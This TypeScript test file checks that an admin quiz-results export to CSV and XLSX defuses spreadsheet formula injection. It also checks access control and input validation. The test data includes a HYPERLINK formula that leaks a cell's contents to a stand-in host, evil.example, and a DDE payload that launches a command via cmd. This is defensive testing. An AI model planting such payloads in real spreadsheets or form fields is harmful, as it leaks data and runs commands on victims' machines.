// admin.reports.exportResults: the filtered results list as .csv and .xlsx, read back the way a
// spreadsheet reads them. A student named like a formula must come out as text, never a formula.
import type { inferRouterOutputs } from '@trpc/server';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import type { AppRouter } from '../router';
import { EXPORT_HEADERS } from '../services/reports/exportResults';
import { takeSet } from '../test/attempts';
import { rpc } from '../test/fixtures';
import { signUpAndIn } from '../test/harness';
import { useAdmin, useCatalog, useTestServer } from '../test/useTestServer';

type Export = inferRouterOutputs<AppRouter>['admin']['reports']['exportResults'];

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const EVIL_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL_PROGRAM = '-2+3\nsecond line';

const t = useTestServer();
const cat = useCatalog(t);
const admin = useAdmin(t);

const download = (format: string, filter: Record<string, unknown> = {}) =>
  admin.mutate<Export>('admin.reports.exportResults', { format, filter });

/** Two students' results: Ama's practice (1 of 4) and the formula-named student's mock (2 of 5). */
async function seedResults() {
  const ama = rpc(t, (await signUpAndIn(t)).access);
  const evil = rpc(
    t,
    (
      await signUpAndIn(t, {
        email: 'mallory@example.com',
        full_name: 'Mallory',
        school: EVIL_SCHOOL,
        program_of_study: EVIL_PROGRAM,
      })
    ).access,
  );
  // Renamed after sign-up: the confirmation mail greets by name, and the harness follows its first link.
  expect((await evil.mutate('profile.update', { full_name: EVIL_NAME })).status).toBe(200);
  const practice = await takeSet(ama, { quiz_type: 'practice', quiz_id: cat.practiceSet.id }, 'AAAA');
  const mock = await takeSet(evil, { quiz_type: 'mock', quiz_id: cat.mockSet.id }, 'AAAAA');
  return { practice, mock };
}

const day = (iso: string) => iso.slice(0, 16).replace('T', ' ');

describe('results export', () => {
  it('writes the filtered list as CSV with formula-like text defused', async () => {
    const { practice, mock } = await seedResults();
    const res = await download('csv');
    expect(res.status).toBe(200);
    expect(res.data).toMatchObject({
      file_name: `quiz-results-${new Date().toISOString().slice(0, 10)}.csv`,
      content_type: 'text/csv; charset=utf-8',
      rows: 2,
      truncated: false,
    });
    const text = Buffer.from(res.data.base64, 'base64').toString('utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([
      [...EXPORT_HEADERS],
      [
        `'${EVIL_NAME}`,
        'mallory@example.com',
        `'${EVIL_SCHOOL}`,
        `'${EVIL_PROGRAM}`,
        'General Nursing',
        'Paper 1',
        'Mock Exam 1',
        'Mock exam',
        '2',
        '5',
        '40',
        day(mock.created_at),
        '0',
      ],
      [
        'Ama Mensah',
        'ama.mensah@example.com',
        'Kumasi Nurses and Midwifery Training College',
        'General Nursing',
        'General Nursing',
        'Paper 1',
        'Practice Set 1',
        'Practice',
        '1',
        '4',
        '25',
        day(practice.created_at),
        '0',
      ],
    ]);
    // No line of the file starts a cell with a formula character outside quotes.
    expect(text).not.toMatch(/(^|[\r\n,])[=+\-@]/);

    const practiceOnly = await download('csv', { quiz_type: 'practice', program_id: cat.program.id });
    const rows = Papa.parse<string[]>(
      Buffer.from(practiceOnly.data.base64, 'base64').toString('utf8').slice(1),
      {
        skipEmptyLines: true,
      },
    ).data;
    expect(rows.map((r) => r[0])).toEqual(['Student', 'Ama Mensah']);
    expect(practiceOnly.data.rows).toBe(1);
  });

  it('writes .xlsx whose formula-like cells are text, and numbers as numbers', async () => {
    await seedResults();
    const res = await download('xlsx', { quiz_type: 'mock' });
    expect(res.status).toBe(200);
    expect(res.data.file_name).toMatch(/^quiz-results-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(res.data.content_type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = XLSX.read(Buffer.from(res.data.base64, 'base64'), { type: 'buffer', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]];
    expect(XLSX.utils.sheet_to_json(sheet, { header: 1 })[0]).toEqual([...EXPORT_HEADERS]);
    for (const address of ['A2', 'C2', 'D2']) {
      expect(sheet[address].t, address).toBe('s');
      expect(sheet[address].f, address).toBeUndefined();
    }
    expect(sheet.A2.v).toBe(`'${EVIL_NAME}`);
    expect(sheet.D2.v).toBe(`'${EVIL_PROGRAM}`);
    expect(sheet.I2).toMatchObject({ t: 'n', v: 2 });
    expect(sheet.K2).toMatchObject({ t: 'n', v: 40 });
    expect(sheet.A3).toBeUndefined();
  });

  it('refuses a student, and answers bad input with a clear message', async () => {
    await seedResults();
    const ama = rpc(t, (await signUpAndIn(t, { email: 'kofi@example.com' })).access);
    const refused = await ama.mutate('admin.reports.exportResults', { format: 'csv', filter: {} });
    expect(refused.status).toBe(403);
    expect(refused.error?.data.code).toBe('FORBIDDEN');
    expect(refused.text).not.toContain('base64');

    const badFormat = await download('pdf');
    expect(badFormat.status).toBe(400);
    expect(badFormat.error?.message).toBe('Choose xlsx or csv.');
    const badFilter = await download('csv', { quiz_type: 'exam' });
    expect(badFilter.status).toBe(400);
    expect(badFilter.error?.message).toBe('Choose mock or practice.');
    expect(await t.db.selectFrom('quiz_results').select('id').execute()).toHaveLength(2);
  });
});
